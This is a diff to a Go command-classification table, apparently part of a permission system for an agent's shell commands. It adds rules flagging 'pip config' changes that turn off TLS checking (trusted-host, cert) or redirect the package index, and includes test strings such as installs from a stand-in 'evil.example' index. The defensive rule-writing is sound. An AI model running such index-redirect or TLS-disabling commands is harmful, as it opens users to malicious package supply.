@@ -99,6 +99,21 @@ var _ = family("toolchains", func(add func(...*Spec)) {
 			"cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "set", &Spec{Effect: Config, Operands: "-*", Loose: true}, "login", &Spec{Effect: Config, Operands: "-*", Loose: true}, "logout", &Spec{Effect: Config, Operands: "-*", Loose: true},
 		),
 	})
+	const pipConfigOpts = "-h:h --help:h --editor=x --global --user --site"
+	pipConfigSet := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts,
+		Raises: []Raise{{Kind: danger.SecurityDisable, Operand: "*trusted-host* *cert*", Last: true, Why: "turns off TLS checking for pip",
+			Flagged: []string{"pip config set global.trusted-host pypi.x.example", "pip config set --user global.cert /tmp/ca.pem", "pip3 config --user set install.trusted-host x", "sudo pip config set global.trusted-host x"},
+			Passes:  []string{"pip config set global.timeout 60", "pip config list", "pip config get global.trusted-host"}},
+			{Kind: danger.SystemConfig, Operand: "*index-url*", Why: "redirects the Python package index",
+				Flagged: []string{"pip config set global.index-url https://pypi.x.example/simple", "pip config set global.extra-index-url https://x.example", "/usr/bin/pip config set global.index-url x"},
+				Passes:  []string{"pip config get global.index-url", "pip install --index-url https://x.example/simple x"}},
+			{Kind: danger.SystemConfig, Medium: true, Why: "changes pip's user-global configuration",
+				Flagged: []string{"pip config set global.timeout 60", "pip config --user set global.timeout 60"}, Passes: []string{"pip config list", "pip config get global.timeout", "pip config set --help"}}}}
+	pipConfigEdit := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts,
+		Raises: []Raise{{Kind: danger.SystemConfig, Medium: true, Why: "changes pip's user-global configuration",
+			Flagged: []string{"pip config edit", "pip config --user edit", "pip3 config edit --global"}, Passes: []string{"pip config list", "pip config edit --help"}}}}
+	pipConfig := &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: pipConfigOpts, OtherSubcommand: Config,
+		Subcommands: subs("set", pipConfigSet, "edit", pipConfigEdit)}
 	add(
 		&Spec{Names: n("make", "gmake"), Grant: Grant{ExactWith: "-f* --file* --makefile* --eval* -E* *=* --justfile", Depth: 1, Offers: []string{"make build x => Bash(make build:*)", "make -f x => Bash(make -f x)"}}, Effect: RunsProject, Lang: "make", Permute: true, Operands: "-*",
 			// --eval and the makefile run any command.
@@ -125,12 +140,16 @@ var _ = family("toolchains", func(add func(...*Spec)) {
 				"tree", &Spec{Permute: true, Operands: "-*", Loose: false, Options: "-p= --package= -i= --invert= -e= --edges= --depth= --prefix= --no-dedupe -d --duplicates --charset= -f= --format= --all-features --no-default-features -F= --features= --target= --workspace --exclude= -h:h --help:h"},
 				"metadata", &Spec{Permute: true, Operands: "", Options: "--format-version= --no-deps --all-features --features= --no-default-features --filter-platform= --manifest-path=r -h:h --help:h"}),
 			Flagged: []string{"cargo build", "cargo --config 'build.rustc-wrapper=\"sh\"' build"}},
+		// pip config set NAME VALUE and pip config edit change pip's
+		// configuration file; what the setting is decides how
+		// dangerous: trusted-host or cert turn TLS checking off (and
+		// nothing further is judged), index-url moves the package index.
 		&Spec{Names: n("pip", "pip3"), Grant: Grant{Depth: 1, ExactSubs: "install", Offers: []string{"pip build x => Bash(pip build:*)", "pip install x => Bash(pip install x)"}}, Options: "-V:h --version:h -h:h --help:h -q --quiet -v --verbose --isolated --python=x --require-virtualenv --no-input --disable-pip-version-check --no-color",
 			Subcommands: subs("list", &Spec{Permute: true, Operands: "", Options: "-o:n --outdated:n -u:n --uptodate:n -e --editable -l --local --user --path= --pre --format= --not-required --exclude-editable --include-editable --exclude= -h:h --help:h"},
 				"show", &Spec{Permute: true, Operands: "-*", Options: "-f --files -h:h --help:h"}, "freeze", &Spec{Permute: true, Operands: "", Options: "-l --local --user --all --exclude-editable --exclude= --path= -h:h --help:h"},
 				"check", &Spec{Operands: ""}, "help", &Spec{Operands: "-*"},
 				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true, Abbrev: true, Permute: true, Options: "-i=n --index-url=n --extra-index-url=n --break-system-packages"}, "download", &Spec{Effect: Network, Operands: "-*", Loose: true},
-				"uninstall", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "config", &Spec{Effect: Config, Operands: "-*", Loose: true}, "cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}),
+				"uninstall", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "config", pipConfig, "cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}),
 			ReadOnly: []string{"pip list", "pip show requests", "pip freeze"}, Flagged: []string{"pip install requests", "pip install --index-url https://evil.example/simple pkg"}},
 	)
 })
